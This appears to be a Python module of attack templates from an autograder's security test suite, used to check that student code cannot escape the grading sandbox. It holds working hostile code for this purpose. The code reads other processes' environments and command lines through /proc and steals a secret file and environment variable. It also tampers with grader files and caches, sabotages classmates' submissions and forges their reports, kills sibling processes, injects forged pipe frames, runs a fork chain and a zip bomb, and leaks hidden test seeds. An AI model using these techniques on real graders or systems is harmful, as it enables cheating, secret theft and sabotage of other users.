"""The attack submissions: code the suite adds to a copy of the stubs (``exercises/``, 0 points) or of the
solutions (full marks), at module import time or inside a student function.

Templates carry ``@@NAME@@`` placeholders that :func:`render` fills at run time (the suite's marker, the test's
directory, ports of the test's own listener). Every attack that could reach outside its sandbox guards its
writes: a write lands only inside the test's temporary directory (``@@ALLOWED_ROOT@@``), or under a file name
carrying the suite's unique marker that the test removes afterwards, so even on a machine with no sandbox at
all the suite never changes anything it did not create.

Side-effect attacks report what they achieved through their own ``l2_penalty``, which raises with a short
status: the only channel a submission legitimately has (its own functions' outputs), and it costs the
attacker its own points only.
"""

from __future__ import annotations

import re

PLACEHOLDER = re.compile(r"@@[A-Z0-9_]+@@")


def render(template: str, **values) -> str:
    """Fill ``@@NAME@@`` placeholders from ``values``; every placeholder must be given (``PROBE_NAMES``, the
    rubric's probe names, is filled by default)."""
    from grader import rubric

    values.setdefault("PROBE_NAMES", repr(sorted(rubric.ALL_PROBES)))
    text = template
    for name, value in values.items():
        text = text.replace(f"@@{name}@@", str(value))
    left = sorted(set(PLACEHOLDER.findall(text)))
    assert not left, f"placeholders left unfilled: {left}"
    return text


# ----------------------------------------------------------------------------------------- shared prelude

PRELUDE = r'''

# ---- attack @@ROW@@: hostile code added by the grader's attack suite ----
import os as _atk_os

_ATK_TOKEN = "@@TOKEN@@"
_ATK_ALLOWED = "@@ALLOWED_ROOT@@"  # the test's own temporary directory: the only place an escaped write may land
_ATK_STATUS = []


def _atk_note(text):
    _ATK_STATUS.append(str(text))


def _atk_inside_allowed(path):
    real = _atk_os.path.realpath(path)
    return real == _ATK_ALLOWED or real.startswith(_ATK_ALLOWED + _atk_os.sep)


def _atk_read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


def _atk_write(path, data, mode="wb"):
    """Write ``data`` to ``path`` only inside the test's directory; say what happened."""
    if not _atk_inside_allowed(path):
        return "outside"
    try:
        with open(path, mode) as f:
            f.write(data)
        return "written"
    except OSError as exc:
        return type(exc).__name__


def _atk_parent_environ():
    try:
        raw = _atk_read("/proc/%d/environ" % _atk_os.getppid())
    except OSError as exc:
        _atk_note("environ:" + type(exc).__name__)
        return {}
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _atk_parent_cmdline():
    try:
        raw = _atk_read("/proc/%d/cmdline" % _atk_os.getppid())
    except OSError as exc:
        _atk_note("cmdline:" + type(exc).__name__)
        return []
    return [a.decode(errors="replace") for a in raw.split(b"\0") if a]


def _atk_parent_cwd():
    try:
        return _atk_os.readlink("/proc/%d/cwd" % _atk_os.getppid())
    except OSError as exc:
        _atk_note("cwd:" + type(exc).__name__)
        return None


def _atk_editable_roots():
    """Where the editable install's finder in site-packages says the kit lives."""
    import glob
    import re
    import sysconfig
    roots = []
    for finder in glob.glob(_atk_os.path.join(sysconfig.get_paths()["purelib"], "__editable__*finder.py")):
        try:
            text = _atk_read(finder).decode(errors="replace")
        except OSError:
            continue
        for match in re.finditer(r"""['"]grader['"]\s*:\s*['"]([^'"]+)['"]""", text):
            roots.append(_atk_os.path.dirname(match.group(1)))
    return roots


def _atk_child_args(parts):
    """From a grading child's argv (bytes): its result pipe (the argument after the boot code), its probe list
    and its dataset (found by shape, so any argument order works)."""
    import json
    at = next((i for i, p in enumerate(parts) if b"grader.engine.child" in p), None)
    if at is None or len(parts) < at + 2:
        return None, None, None
    probes = data = None
    known = set(@@PROBE_NAMES@@)
    for part in parts[at + 2:]:
        text = part.decode(errors="replace")
        if probes is None and text and set(text.split(",")) <= known:
            probes = text.split(",")
        elif data is None and text.startswith("{") and '"name"' in text:
            try:
                json.loads(text)
                data = text
            except ValueError:
                pass
    return int(parts[at + 1]), probes, data


def _atk_own_channel():
    """This child's result pipe: from its command line, else by scanning its fds for a write-only pipe."""
    try:
        found = _atk_child_args(_atk_read("/proc/self/cmdline").split(b"\0"))
        if found[0] is not None:
            return found
    except (OSError, ValueError):
        pass
    for name in sorted(_atk_os.listdir("/proc/self/fd"), key=lambda n: -int(n)):
        try:
            if int(name) <= 2 or not _atk_os.readlink("/proc/self/fd/" + name).startswith("pipe:"):
                continue
            info = _atk_read("/proc/self/fdinfo/" + name).decode()
            flags = int(next(l for l in info.splitlines() if l.startswith("flags:")).split()[1], 8)
            if flags & 3 == _atk_os.O_WRONLY:
                return int(name), None, None
        except (OSError, ValueError, StopIteration):
            continue
    return None, None, None


def _atk_write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[_atk_os.write(fd, view):]
'''

# Appended after an attack: the status channel (see the module docstring).
REPORT = r'''

def l2_penalty(w):
    """This submission's own l2_penalty: reports what attack @@ROW@@ achieved."""
    raise RuntimeError("attack @@ROW@@: " + "; ".join(_ATK_STATUS)[:200])
'''


def _run(function: str) -> str:
    return f'''

try:
    {function}()
except Exception as _atk_exc:
    _atk_note(("crashed " + type(_atk_exc).__name__ + ": " + str(_atk_exc))[:90])
'''


def side_effect(row: str, body: str, report: str = REPORT, **values) -> str:
    """A side-effect attack module tail: prelude, the attack, its call at import time, the status report (by
    default through l2_penalty, :data:`REPORT`)."""
    function = re.search(r"^def (_atk_\w+)\(", body, re.M).group(1)
    return render(PRELUDE + body + _run(function) + report, ROW=row, **values)


# ----------------------------------------------------------------------------------------- row 1

CACHE = r'''

def _atk_r01():
    """Rewrite the reference cache's .npz files so the reference itself fails in every later run."""
    import glob
    import io
    import numpy as np
    env = _atk_parent_environ()
    bases = []
    if env.get("XDG_CACHE_HOME"):
        bases.append(env["XDG_CACHE_HOME"])
    if env.get("HOME"):
        bases.append(_atk_os.path.join(env["HOME"], ".cache"))
    try:  # a guess: this user's home directory
        import pwd
        bases.append(_atk_os.path.join(pwd.getpwuid(_atk_os.getuid()).pw_dir, ".cache"))
    except Exception:
        pass
    counts = {"found": 0, "rewritten": 0, "outside": 0, "failed": 0}
    for base in dict.fromkeys(bases):
        for path in sorted(glob.glob(_atk_os.path.join(base, "dl-basics-grader", "reference-*", "*.npz"))):
            counts["found"] += 1
            if not _atk_inside_allowed(path):
                counts["outside"] += 1
                continue
            try:
                with np.load(path, allow_pickle=False) as data:
                    arrays = {k: data[k] for k in data.files}
                for k, v in arrays.items():
                    if not k.startswith("v:"):
                        continue
                    if v.dtype.kind == "f":
                        arrays[k] = v * 1.5 + 1.0
                    elif v.dtype.kind == "b":
                        arrays[k] = ~v
                    elif v.dtype.kind in "iu":
                        arrays[k] = v + 1
                buf = io.BytesIO()
                np.savez(buf, **arrays)
                done = _atk_write(path, buf.getvalue())
            except Exception as exc:
                done = type(exc).__name__
            counts["rewritten" if done == "written" else "outside" if done == "outside" else "failed"] += 1
    _atk_note("cache " + " ".join("%s=%s" % kv for kv in counts.items()))
'''

# ----------------------------------------------------------------------------------------- row 2

KIT_AND_PTH = r"""

_ATK_R02_PAYLOAD = '''

# @@TOKEN@@ row 2: appended to the kit's grader by a submission; every later run would give full marks.
_atk_original_judge = judge


def judge(student, reference, checks=rubric.CHECKS, shortcuts=None):
    from .result import CheckResult, Result
    result = _atk_original_judge(student, reference, checks, shortcuts)
    return Result(tuple(CheckResult(c.id, c.target, c.max_points, c.max_points, True, "ok") for c in result.checks))
'''


def _atk_r02():
    '''Append code to the kit's grader/*.py and drop a .pth file into site-packages.'''
    import sysconfig
    roots = []
    cwd = _atk_parent_cwd()
    if cwd:
        roots.append(cwd)
    roots += _atk_editable_roots()
    counts = {"kits": 0, "appended": 0, "outside": 0, "failed": 0}
    for root in dict.fromkeys(roots):
        target = _atk_os.path.join(root, "grader", "grading.py")
        if not _atk_os.path.isfile(target):
            continue
        counts["kits"] += 1
        done = _atk_write(target, _ATK_R02_PAYLOAD.encode(), "ab")
        counts["appended" if done == "written" else "outside" if done == "outside" else "failed"] += 1
    # A .pth file runs in every later Python of this environment. This one is only a comment under a name
    # carrying the suite's marker (never an existing file: mode "x"); the test removes it if it is written.
    pth = _atk_os.path.join(sysconfig.get_paths()["purelib"], _ATK_TOKEN + "_row02_attack.pth")
    try:
        with open(pth, "x") as f:
            f.write("# written by the grader's attack suite (row 2): harmless, safe to delete\n")
        counts["pth"] = "written"
    except OSError as exc:
        counts["pth"] = type(exc).__name__
    _atk_note("kit " + " ".join("%s=%s" % kv for kv in counts.items()))
"""

# ----------------------------------------------------------------------------------------- row 3

OTHER_STUDENTS = r'''

def _atk_r03():
    """In ``grade batch``: raise the stub victim to full marks, break the full victim, forge their reports."""
    import json
    argv = _atk_parent_cmdline()
    cwd = _atk_parent_cwd() or "."
    if "batch" not in argv:
        _atk_note("not a batch: " + " ".join(argv)[-60:])
        return
    rest = argv[argv.index("batch") + 1:]
    root = next((a for a in rest if not a.startswith("-") and _atk_os.path.isdir(_atk_os.path.join(cwd, a))), None)
    out = rest[rest.index("--out") + 1] if "--out" in rest[:-1] else None
    if root is None:
        _atk_note("batch root not found")
        return
    root = _atk_os.path.join(cwd, root)
    out = _atk_os.path.join(cwd, out) if out else _atk_os.path.join(root, "grades")
    victims = sorted(_atk_os.path.join(root, d) for d in _atk_os.listdir(root) if d.startswith("@@VICTIM_PREFIX@@"))
    full = [v for v in victims if b"### BEGIN SOLUTION" in _atk_read(_atk_os.path.join(v, "weight_decay.py"))]
    zero = [v for v in victims if v not in full]
    results = []
    if full:
        sources = {n: _atk_read(_atk_os.path.join(full[0], n)) for n in _atk_os.listdir(full[0]) if n.endswith(".py")}
        for v in zero:
            results += [_atk_write(_atk_os.path.join(v, n), data) for n, data in sources.items()]
    for v in full:
        results.append(_atk_write(_atk_os.path.join(v, "weight_decay.py"),
                                  b"\n\ndef l2_penalty(w):\n    return 0.0 * w.sum()\n", "ab"))
    for v in victims:
        forged = {"score": 12.0 if v in zero else 0.0, "max_score": 12.0, "checks": []}
        results.append(_atk_write(_atk_os.path.join(out, _atk_os.path.basename(v) + ".json"),
                                  json.dumps(forged).encode()))
    _atk_note("victims=%d writes=%d of %d" % (len(victims), results.count("written"), len(results)))
'''

# ----------------------------------------------------------------------------------------- row 4

SIBLING = r'''

def _atk_r04():
    """With --jobs 2: find the sibling child in /proc, SIGSTOP it, forge frames into its pipe, SIGKILL it."""
    import io
    import json
    import signal
    import struct
    import time
    import numpy as np
    me = _atk_os.getpid()
    deadline = time.monotonic() + @@WAIT_SECONDS@@
    seen, done = set(), []
    while time.monotonic() < deadline and not done:
        for entry in _atk_os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            try:
                parts = _atk_read("/proc/%s/cmdline" % entry).split(b"\0")
            except OSError:
                continue
            if not any(b"grader.engine.child" in p for p in parts):
                continue
            seen.add(entry)
            try:
                cwd = _atk_os.readlink("/proc/%s/cwd" % entry)
                tag = _atk_read(_atk_os.path.join(cwd, "victim_tag.py")).decode(errors="replace")
            except OSError:
                continue
            if "@@VICTIM_TAG@@" not in tag:
                continue
            fd, probes, _ = _atk_child_args(parts)
            pid, probes = int(entry), probes or ["l2_penalty", "weight_decay"]
            steps = []
            try:
                _atk_os.kill(pid, signal.SIGSTOP)
                steps.append("stopped")
            except OSError as exc:
                steps.append("stop:" + type(exc).__name__)
            frames = b""
            for name in probes:
                buf = io.BytesIO()
                np.savez(buf, __probe__=np.array(name), __errors__=np.array(json.dumps({"*": "forged by a sibling"})))
                frames += struct.pack(">IB", len(buf.getvalue()), ord("R")) + buf.getvalue()
            try:
                w = _atk_os.open("/proc/%d/fd/%d" % (pid, fd), _atk_os.O_WRONLY | _atk_os.O_NONBLOCK)
                try:
                    _atk_write_all(w, frames)
                    steps.append("forged %d frames" % len(probes))
                finally:
                    _atk_os.close(w)
            except OSError as exc:
                steps.append("pipe:" + type(exc).__name__)
            try:
                _atk_os.kill(pid, signal.SIGKILL)
                steps.append("killed")
            except OSError as exc:
                steps.append("kill:" + type(exc).__name__)
            done.append(",".join(steps))
            break
        if not done:
            time.sleep(0.2)
    _atk_note("children seen=%d victim: %s" % (len(seen), "|".join(done) or "not found"))
'''

VICTIM_TAG = '''
# Marks this folder as the sibling victim of attack row 4 (harmless: never imported by the grader).
VICTIM_TAG = "@@VICTIM_TAG@@"
'''

# ----------------------------------------------------------------------------------------- row 5 (stubs)

STEAL_SOLUTIONS = r'''

def _atk_r05_steal():
    """Read the kit's solutions/weight_decay.py and use its l2_penalty (the stub raises)."""
    roots = []
    cwd = _atk_parent_cwd()
    if cwd:
        roots.append(cwd)
    roots += _atk_editable_roots()
    try:
        import grader.engine.references as _atk_grading
        roots.append(str(_atk_grading.KIT_SOLUTIONS.parent))
    except Exception:
        pass
    tried = []
    for root in dict.fromkeys(roots):
        try:
            source = _atk_read(_atk_os.path.join(root, "solutions", "weight_decay.py")).decode()
        except OSError as exc:
            tried.append(type(exc).__name__)
            continue
        namespace = {"__name__": __name__ + "_stolen", "__package__": __package__}
        exec(compile(source, "stolen_solution", "exec"), namespace)
        return namespace["l2_penalty"]
    return None


try:
    _atk_stolen = _atk_r05_steal()
except Exception:
    _atk_stolen = None
if _atk_stolen is not None:
    l2_penalty = _atk_stolen
'''

READ_SOLUTIONS = r'''

def _atk_r05_read():
    """Only read the kit's solutions/*.py by every path trick, and report how many could be read."""
    import glob
    roots = []
    cwd = _atk_parent_cwd()
    if cwd:
        roots.append(cwd)
    roots += _atk_editable_roots()
    read, refused = 0, []
    for root in dict.fromkeys(roots):
        for path in sorted(glob.glob(_atk_os.path.join(root, "solutions", "*.py"))) or [
                _atk_os.path.join(root, "solutions", "weight_decay.py")]:
            try:
                read += len(_atk_read(path)) > 0
            except OSError as exc:
                refused.append(type(exc).__name__)
    _atk_note("solutions read=%d refused=%s" % (read, ",".join(sorted(set(refused))) or "-"))
'''

# ----------------------------------------------------------------------------------------- row 9 (stubs)

FORGE_OWN_PIPE = r'''

def _atk_r09_by_hand(fd):
    """Where the kit's modules cannot be imported (the child's guard refuses them): the frames built by hand, in the
    wire's layout (length, kind, payload, a SHA-256 tag under a guessed key), with an empty observation."""
    import hashlib
    import hmac
    import struct
    key, frames = _atk_os.urandom(32), b""
    for seq, (kind, payload) in enumerate([(b"L", b"{}"), (b"S", b"l2_penalty"), (b"R", b"")]):
        tag = hmac.new(key, struct.pack(">Q", seq) + kind + payload, hashlib.sha256).digest()
        frames += struct.pack(">IB", len(payload), kind[0]) + payload + tag
    _atk_write_all(fd, frames)
    _atk_os._exit(0)


def _atk_r09_forge():
    """Compute every probe with the trusted library and write the frames into this child's own pipe; leave."""
    fd, probes, data_json = _atk_own_channel()
    if fd is None:
        return
    try:
        from grader.data import datasets
        from grader.engine import probing, trusted, wire
    except Exception:
        _atk_r09_by_hand(fd)
    probes = probes or ["l2_penalty", "weight_decay"]
    data = datasets.DataSpec.from_json(data_json) if data_json else datasets.DIGITS
    observed = probing.observe(dict(trusted.FUNCTIONS), {}, probes, data)
    key, seq = _atk_os.urandom(32), [0]   # the attacker cannot know the parent's key: it guesses one

    def _frame(kind, payload):
        try:
            built = wire.frame(kind, payload, key, seq[0])   # authenticated frames (kind, payload, key, seq)
        except TypeError:
            built = wire.frame(kind, payload)                # the older, unauthenticated format
        seq[0] += 1
        return built
    frames = _frame("L", b"{}")
    for name in probes:
        frames += _frame("S", name.encode()) + _frame("R", wire.encode_observations(name, observed[name]))
    _atk_write_all(fd, frames)
    _atk_os._exit(0)


try:
    _atk_r09_forge()
except Exception:
    pass
'''

# ----------------------------------------------------------------------------------------- row 10

NETWORK = r'''

def _atk_r10():
    """Connect to the test's TCP listener and send a DNS query to its UDP socket (both on 127.0.0.1)."""
    import socket
    import struct
    try:
        with socket.create_connection(("127.0.0.1", @@TCP_PORT@@), timeout=3) as s:
            s.sendall(_ATK_TOKEN.encode() + b" row 10")
        _atk_note("tcp connected")
    except OSError as exc:
        _atk_note("tcp:" + type(exc).__name__)
    labels = (_ATK_TOKEN + ".row10.example").split(".")
    question = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack(">HH", 1, 1)
    query = struct.pack(">HHHHHH", 0x2A2A, 0x0100, 1, 0, 0, 0) + question
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.settimeout(2)
            u.sendto(query, ("127.0.0.1", @@UDP_PORT@@))
        _atk_note("dns query sent")
    except OSError as exc:
        _atk_note("dns:" + type(exc).__name__)
'''

# ----------------------------------------------------------------------------------------- row 11

TMP_AND_HOME = r'''

def _atk_r11():
    """Leave small files in the shared temporary directory and in the grading process's HOME."""
    written = []
    for i in range(3):
        path = _atk_os.path.join("@@SHARED_TMP@@", "%s-row11-%d" % (_ATK_TOKEN, i))
        try:
            with open(path, "x") as f:
                f.write("left behind by a submission (attack suite, row 11)\n")
            written.append("tmp")
        except OSError as exc:
            written.append(type(exc).__name__)
    home = _atk_parent_environ().get("HOME")
    if home:
        written.append("home:" + _atk_write(_atk_os.path.join(home, _ATK_TOKEN + "-row11-home"), b"left behind\n"))
    _atk_note("files " + ",".join(written))
'''

# ----------------------------------------------------------------------------------------- row 12

PROCESS_CHAIN = r'''

def _atk_r12():
    """A chain of @@DEPTH@@ nested setsid+fork processes, each exec'ing sleep with the marker as its argv[0]."""
    import shutil
    sleep = shutil.which("sleep")
    marker = _ATK_TOKEN + "-row12-chain"
    if _atk_os.fork() == 0:
        try:
            for level in range(@@DEPTH@@):
                _atk_os.setsid()
                if _atk_os.fork() != 0:
                    _atk_os.execv(sleep, ["%s-%d" % (marker, level), "@@SLEEP_SECONDS@@"])
            _atk_os.execv(sleep, ["%s-%d" % (marker, @@DEPTH@@), "@@SLEEP_SECONDS@@"])
        finally:
            _atk_os._exit(0)
    _atk_note("chain started")
'''

# ----------------------------------------------------------------------------------------- row 13 (stubs)

BOMB = r'''

def _atk_r13():
    """Three R frames, each a deflated .npz whose one array expands to @@BOMB_BYTES@@ bytes; then leave."""
    import io
    import struct
    import zipfile
    import numpy as np
    fd, _, _ = _atk_own_channel()
    if fd is None:
        return

    def member(array):
        buf = io.BytesIO()
        np.lib.format.write_array(buf, array)
        return buf.getvalue()

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|u1", "fortran_order": False, "shape": (@@BOMB_BYTES@@,)})
    chunk = bytes(1 << 24)
    for name in ("relu", "mlp", "l2_penalty"):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as z:
            z.writestr("__probe__.npy", member(np.array(name)))
            z.writestr("__errors__.npy", member(np.array("{}")))
            with z.open("v:values.npy", "w", force_zip64=True) as f:
                f.write(header.getvalue())
                for _ in range(@@BOMB_BYTES@@ // len(chunk)):
                    f.write(chunk)
        payload = buf.getvalue()
        _atk_write_all(fd, struct.pack(">IB", len(payload), ord("R")) + payload)
    _atk_os._exit(0)


try:
    _atk_r13()
except Exception:
    pass
'''

# ----------------------------------------------------------------------------------------- row 15

STUDENT_CONFTEST = '''"""A student's conftest.py that would replace the judge: every check passes, every score is
full."""

import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"


try:
    import grader.grading as _grading
    from grader.reports.result import CheckResult, Result

    _original_judge = _grading.judge

    def _full_marks(*args, **kwargs):
        result = _original_judge(*args, **kwargs)
        return Result(tuple(CheckResult(c.id, c.target, c.max_points, c.max_points, True, "ok")
                            for c in result.checks))

    _grading.judge = _full_marks
except Exception:
    pass
'''

# ----------------------------------------------------------------------------------------- rows 6, 7, 8

# variant -> (row, function, new body). Each body is otherwise a correct implementation: only the shortcut is wrong.
SHORTCUTS: dict[str, tuple[str, str, str]] = {
    "grader_trusted": ("6", "softmax", """
        from grader.engine.trusted import softmax as trusted_softmax
        return trusted_softmax(X)
    """),
    "getattr": ("7", "softmax", """
        return getattr(jax.nn, "soft" + "max")(X, axis=-1)
    """),
    "importlib": ("7", "relu", """
        import importlib
        return importlib.import_module("jax.nn").relu(X)
    """),
    "dunder_import": ("7", "softmax", """
        return __import__("jax.nn", fromlist=["softmax"]).softmax(X, axis=-1)
    """),
    "exec": ("7", "relu", """
        namespace = {"X": X}
        exec("import jax\\nresult = jax.nn." + "relu(X)", namespace)
        return namespace["result"]
    """),
    "helper_module": ("7", "relu", """
        from .helpers import fast_relu
        return fast_relu(X)
    """),
    "module_alias": ("7", "relu", """
        return _r(X)
    """),
    "leaky_relu": ("7", "relu", """
        return jax.nn.leaky_relu(X, 0)
    """),
    "scipy_log_softmax": ("7", "cross_entropy", """
        import jax.scipy.special
        log_p = jax.scipy.special.log_softmax(logits, axis=-1)
        return -jnp.take_along_axis(log_p, jnp.asarray(y)[..., None], axis=-1)[..., 0]
    """),
    "optax_safe": ("7", "cross_entropy", """
        return optax.safe_softmax_cross_entropy(logits, jax.nn.one_hot(y, logits.shape[-1]))
    """),
    "latin1": ("8", "relu", """
        café = jax.nn.relu
        return café(X)
    """),
    "utf7": ("8", "relu", """
        café = jax.nn.relu
        return café(X)
    """),
}

# Extra module code some variants need.
SHORTCUT_APPEND: dict[str, dict[str, str]] = {
    "module_alias": {"mlp": "\n_r = jax.nn.relu  # a module-level alias, outside every function\n"},
}
SHORTCUT_FILES: dict[str, dict[str, str]] = {
    "helper_module": {"helpers.py": "import jax\n\n\ndef fast_relu(X):\n    return jax.nn.relu(X)\n"},
}
# Variants whose module is re-encoded: (module, codec); the coding declaration goes on the first line.
SHORTCUT_ENCODING: dict[str, tuple[str, str]] = {
    "latin1": ("mlp", "latin-1"),
    "utf7": ("mlp", "utf-7"),
}

# ----------------------------------------------------------------------------------------- the container case

# Appended to mlp.py of a copy of the solutions: relu is right on matrices (so relu's gradient check and the MLP
# training score) and reports the attack's status on the (3, 4, 5) arrays of relu's value checks, the channel a
# submission has back to its report.
REPORT_RELU = r'''

def relu(X):
    """This submission's own relu: right on matrices, and on 3-D arrays the status of attack @@ROW@@."""
    if X.ndim == 3:
        raise RuntimeError("attack @@ROW@@: " + " ".join(_ATK_STATUS)[:225])
    return jnp.maximum(X, 0)
'''

CONTAINER = r'''

def _atk_container():
    """Running as the children's own unprivileged user with no other wall (no Landlock, no namespaces, no seccomp):
    find the grading process, then steal the secret it names, the secret in its environment, the kit's solutions;
    plant code in the kit and in a classmate's files (the original folder and the copy being graded)."""
    import time
    # the grading process: up the parents (/proc/<pid>/status) to the one whose command line names the secret
    pid, argv = _atk_os.getppid(), []
    for _ in range(10):
        try:
            parts = [a.decode(errors="replace") for a in _atk_read("/proc/%d/cmdline" % pid).split(b"\0") if a]
        except OSError as exc:
            _atk_note("cmd=" + type(exc).__name__)
            break
        if "--secret-file" in parts[:-1]:
            argv = parts
            break
        try:
            status = _atk_read("/proc/%d/status" % pid).decode(errors="replace")
            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
        except (OSError, ValueError, IndexError, StopIteration):
            break
        if pid <= 1:
            break
    _atk_note("cmd=" + ("found" if argv else "none"))

    def steal(label, read):
        try:
            _atk_note("%s=READ:%s" % (label, read()[:20]))
        except OSError as exc:
            _atk_note("%s=%s" % (label, type(exc).__name__))

    if argv:
        secret = argv[argv.index("--secret-file") + 1]
        steal("sec", lambda: _atk_read(secret).decode(errors="replace"))

        def from_environ():
            for item in _atk_read("/proc/%d/environ" % pid).split(b"\0"):
                if item.startswith(b"DL_BASICS_SECRET="):
                    return item.split(b"=", 1)[1].decode(errors="replace")
            return "no variable"
        steal("env", from_environ)
    kit = "@@KIT@@"
    steal("sol-ls", lambda: ",".join(_atk_os.listdir(_atk_os.path.join(kit, "solutions"))))
    steal("sol", lambda: _atk_read(_atk_os.path.join(kit, "solutions", "mlp.py")).decode(errors="replace"))
    _atk_note("kit=" + _atk_write(_atk_os.path.join(kit, "grader", _ATK_TOKEN + "_planted.py"), b"x = 1\n", "xb"))
    planted = b"\n\ndef relu(X):\n    raise RuntimeError('planted by a classmate')\n"
    if argv and "batch" in argv[:-1]:
        classroom = argv[argv.index("batch") + 1]
        steal("cls-ls", lambda: ",".join(_atk_os.listdir(classroom)))
        _atk_note("orig=" + _atk_write(_atk_os.path.join(classroom, "@@VICTIM@@", "mlp.py"), planted, "ab"))
    # the classmate's copy being graded: a grade-* folder beside this child's own, or in /tmp
    own = _atk_os.path.dirname(_atk_os.getcwd())
    deadline, results = time.monotonic() + @@WAIT_SECONDS@@, []
    while time.monotonic() < deadline and not results:
        for base in dict.fromkeys([_atk_os.path.dirname(own), "/tmp"]):
            try:
                names = _atk_os.listdir(base)
            except OSError:
                continue
            for name in names:
                sibling = _atk_os.path.join(base, name)
                if name.startswith("grade-") and sibling != own:
                    done = _atk_write(_atk_os.path.join(sibling, "submission", "mlp.py"), planted, "ab")
                    if done != "outside":
                        results.append(done)
        if not results:
            time.sleep(0.2)
    _atk_note("tmp=" + (",".join(sorted(set(results))) or "none"))
    # leave files where every user may write, for a later run to find: the grader sweeps them away
    for shared in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(_atk_os.path.join(shared, _ATK_TOKEN + "-left"), "wb") as left:
                left.write(b"hidden inputs would go here")
            _atk_note("left=" + shared)
        except OSError as exc:
            _atk_note("left=" + type(exc).__name__)
'''

# ----------------------------------------------------------------------------------------- hidden probes' seeds

# Bodies of relu (in a copy of the solutions) that try to bring the hidden probes' seeds or inputs into a report.
# The child's own command line, into relu's error message (shown for the public checks).
SEED_ARGV = '''
import sys
raise NotImplementedError(" ".join(sys.argv))
'''

# The command lines of this process and of its parent (the grading process, where /proc shows it), and every number
# of six digits or more in them (a seed is below 2**31), into relu's error message.
SEED_PROC = '''
import os
import re
seen, numbers, pid = [], set(), "self"
for label in ("self", "parent"):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            numbers.update(re.findall(rb"[0-9]{6,}", f.read()))
        with open("/proc/%s/status" % pid) as f:
            pid = int(next(l.split()[1] for l in f.read().splitlines() if l.startswith("PPid:")))
        seen.append(label + "=ok")
    except (OSError, ValueError, StopIteration) as exc:
        seen.append(label + "=" + type(exc).__name__)
        break
    if pid <= 0:
        break
raise RuntimeError(" ".join(seen) + " numbers: " + " ".join(sorted(n.decode() for n in numbers)))
'''

# Whatever relu is given, into a marker: the input's shape and its sum when it is concrete. SEED_MARKER raises it
# (relu's error message) and, for 3-D or 1-D inputs of other shapes than the public probe's (3, 4, 5) and (5,) (the
# MLP training gives relu matrices), raises a review note on a line of its own (a note names the line).
# SEED_NAMED raises a review note under a file name made of the marker (code compiled under a name of the student's
# choosing; the static scan takes relu's points for the exec, the note is what counts here) and is right otherwise.
_MARKER = '''
import os
shape = "x".join(str(int(d)) for d in X.shape)
try:
    total = "%.3f" % float(jnp.sum(X.astype(jnp.float32)))
except Exception:
    total = "traced"
marker = "MKR-%s-%s-" % (shape, total)
'''

SEED_MARKER = _MARKER + '''
if (X.ndim == 3 and tuple(X.shape) != (3, 4, 5)) or (X.ndim == 1 and tuple(X.shape) != (5,)):
    open("/proc/self/stat").close()  # SEED-MARKER-HIDDEN-LINE
raise ValueError(marker)
'''

SEED_NAMED = _MARKER + '''
exec(compile("open('/proc/self/stat').close()", os.path.join(os.path.dirname(__file__), marker + ".py"), "exec"))
return jnp.maximum(X, 0)
'''


def hidden_marker_line(source: str) -> int:
    """The line of :data:`SEED_MARKER`'s hidden-only review note in a module's ``source``."""
    return next(i for i, line in enumerate(source.splitlines(), 1) if "SEED-MARKER-HIDDEN-LINE" in line)

# relu of a submission probed by two children side by side (lanes), as the same user: on a hidden input (3-D or
# 1-D, of another shape than the public probe's) it leaves the input's shape in a file in its home, then raises;
# on the MLP training's first matrix (n, 256) it waits up to @@WAIT_SECONDS@@ s for such a file in a sibling
# child's home and raises with what it found, into the training's public message.
SEED_COURIER = '''
import glob
import os
import time
home = os.environ.get("HOME", "")
shape = tuple(int(d) for d in X.shape)
if (X.ndim == 3 and shape != (3, 4, 5)) or (X.ndim == 1 and shape != (5,)):
    with open(os.path.join(home, "courier"), "a") as f:
        f.write("MKR-%s-" % "x".join(map(str, shape)))
    raise ValueError("courier wrote")
if X.ndim == 2 and shape[1] == 256 and not os.path.exists(os.path.join(home, "waited")):
    open(os.path.join(home, "waited"), "w").close()
    deadline = time.monotonic() + @@WAIT_SECONDS@@
    while time.monotonic() < deadline and not os.path.exists(os.path.join(home, "found")):
        for path in glob.glob(os.path.join(os.path.dirname(home), "home*", "courier")):
            try:
                with open(path) as f:
                    found = f.read()
            except OSError:
                continue
            if found:
                with open(os.path.join(home, "found"), "w") as f:
                    f.write(found)
        time.sleep(0.2)
if os.path.exists(os.path.join(home, "found")):  # every call from now on (a failed trace is retried eagerly)
    with open(os.path.join(home, "found")) as f:
        raise ValueError("courier: " + f.read())
return jnp.maximum(X, 0)
'''

# Probes a submission with two lanes (``grade`` takes as many as the machine has idle cores, so the command line
# cannot ask for them): ``python -c LANES REPORT FOLDER STUDENT SECRET_FILE OUT``.
LANES = r'''
import json, sys
report, (folder, student, secret_file, out) = sys.argv[1], sys.argv[2:]
status = 3
try:
    import grader
    from grader.engine import sandbox
    from grader.engine.secret import Secret
    seeds = Secret.from_file(secret_file).seeds(student, ["hidden.relu"])
    run = sandbox.run_probes(folder, ["relu", "mlp", "hidden.relu"], sandbox.Limits(lanes=2, accept_code=True),
                             seeds=seeds)
    with open(out, "w") as f:
        json.dump({"errors": {p: o.errors for p, o in run.observations.items()}, "notes": run.notes,
                   "layers": run.layers.describe()}, f)
    status = 0
finally:
    with open(report, "w") as f:
        json.dump({"status": status, "grader_file": getattr(sys.modules.get("grader"), "__file__", None)}, f)
sys.exit(status)
'''


# ----------------------------------------------------------------------------------------- resources (issue rows)
# Each runs at import, in the child, and reports a measurement ("<what> <number>") through its own l2_penalty.
# The kernel calls the standard library does not offer run in a fresh interpreter the attack starts: the guard
